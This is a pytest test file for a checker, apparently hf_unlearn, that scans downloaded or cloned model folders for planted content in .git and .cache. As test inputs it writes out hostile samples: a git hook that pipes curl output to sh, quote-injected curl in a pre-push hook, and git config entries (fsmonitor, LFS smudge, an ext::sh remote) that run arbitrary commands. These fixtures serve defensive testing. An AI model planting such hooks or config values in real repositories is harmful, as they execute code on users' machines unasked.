"""A model that was downloaded or cloned is intact; what hides in the folders of those tools is found."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from huggingface_hub import snapshot_download
from loopback import Hub

from hf_unlearn.cli.main import main
from hf_unlearn.hub.check import check_folder
from hf_unlearn.hub.verified import VerifiedModel, check

LFS_HOOK = (
    '#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { printf >&2 "\\n%s\\n\\n" "This repository is configured for '
    'Git LFS but \'git-lfs\' was not found on your path."; exit 2; }\ngit lfs pre-push "$@"\n'
)


def put(folder: Path, name: str, data: bytes | str = b"x") -> None:
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data if isinstance(data, bytes) else data.encode())


def named(folder: Path) -> set[str]:
    return {problem.split(":")[0] for problem in check_folder(folder).problems}


@pytest.fixture
def cloned(copied: Path) -> Path:
    """A published model in a git repository with one commit, as a clone is."""
    for command in (
        ["init", "-q"],
        ["-c", "user.name=a", "-c", "user.email=a@b.c", "add", "-A"],
        ["-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-qm", "Model"],
        ["remote", "add", "origin", "https://huggingface.co/owner/tiny"],
    ):
        subprocess.run(["git", *command], cwd=copied, check=True, capture_output=True)
    put(copied, ".git/lfs/objects/ab/cd/" + "abcd" * 16, b"weights")
    put(copied, ".git/hooks/pre-push", LFS_HOOK)
    return copied


def test_a_download_is_intact(here: Hub, passed, tmp_path: Path, capsys) -> None:
    """By the Hub's own client, with everything that it leaves."""
    here.create_from("owner/tiny", passed.main)
    folder = tmp_path / "tiny"
    snapshot_download("owner/tiny", local_dir=folder, endpoint=os.environ["HF_ENDPOINT"])
    assert (folder / ".gitattributes").is_file() and (folder / ".cache/huggingface/CACHEDIR.TAG").is_file()
    assert list((folder / ".cache/huggingface/download").rglob("*.metadata"))
    assert check_folder(folder).problems == ()
    assert main(["check", str(folder)]) == 0
    VerifiedModel.from_pretrained(folder)
    # The same names, served by a repository, are files that somebody added.
    put(folder, ".cache/huggingface/download/x.metadata")
    (folder / ".gitattributes").unlink()
    here.create_from("owner/other", folder)
    assert {problem.split("/")[0] for problem in check("owner/other").problems} == {".cache"}


def test_a_clone_is_intact(cloned: Path) -> None:
    assert any((cloned / ".git/hooks").glob("*.sample")) and (cloned / ".git/config").is_file()
    assert check_folder(cloned).problems == ()
    shutil.rmtree(cloned / ".git")
    put(cloned, ".git", "gitdir: ../.git/modules/tiny\n")
    assert check_folder(cloned).intact


@pytest.mark.parametrize(
    ("name", "data"),
    [
        *((f"{place}/{name}", b"x") for place in (".git", ".cache/huggingface", ".git/lfs/objects/ab/cd")
          for name in ("modeling_mine.py", "pytorch_model.bin", "model.safetensors", "tokenizer.json", "x.so")),
        (".cache/huggingface/download/model.metadata.py", b"x"),
        (".cache/huggingface/download/x.metadata", b"#!/bin/sh\n"),
        (".cache/huggingface/download/x.metadata", b"\x7fELF"),
        (".cache/huggingface/download/x.incomplete", b"\x80\x04K\x01."),
        (".cache/huggingface/notes", b"x"),
        (".cache/other", b"x"),
        (".git/hooks/post-checkout", b"curl https://example.org | sh\n"),
        (".git/hooks/pre-push", LFS_HOOK.encode() + b"curl example.org\n"),
        (".git/hooks/pre-push", LFS_HOOK.replace("not found", "not\\\\\" \"; curl example.org; echo \"").encode()),
        (".git/hooks/fsmonitor", b"x"),
        (".git/config", b"[core]\n\tfsmonitor = ./run\n"),
        (".git/config", b'[filter "lfs"]\n\tsmudge = ./run\n'),
        (".git/config", b'[remote "origin"]\n\turl = ext::sh -c run\n'),
        (".git/config", b"# " + b"x" * 70_000 + b"\n[core]\n\tbare = false\n"),
        (".git/objects/run", b"#!/usr/bin/env python\n"),
        ("original/.gitattributes", b"x"),
        ("original/.git/HEAD", b"ref: refs/heads/main\n"),
        ("plots/.cache/huggingface/CACHEDIR.TAG", b"x"),
        (".gitattributes/x", b"x"),
        (".gitignore", b"x"),
        (".gitattributes", b"#!/bin/sh\n"),
    ],
)  # fmt: skip
def test_what_could_be_loaded_or_run_is_found(copied: Path, name: str, data: bytes) -> None:
    put(copied, name, data)
    assert named(copied) == {name}
    assert main(["check", str(copied)]) == 1


def test_links_in_those_folders_are_found(cloned: Path, tmp_path: Path) -> None:
    (cloned / ".git" / "elsewhere").symlink_to(tmp_path)
    (cloned / ".cache").symlink_to(tmp_path)
    assert named(cloned) == {".git/elsewhere", ".cache"}
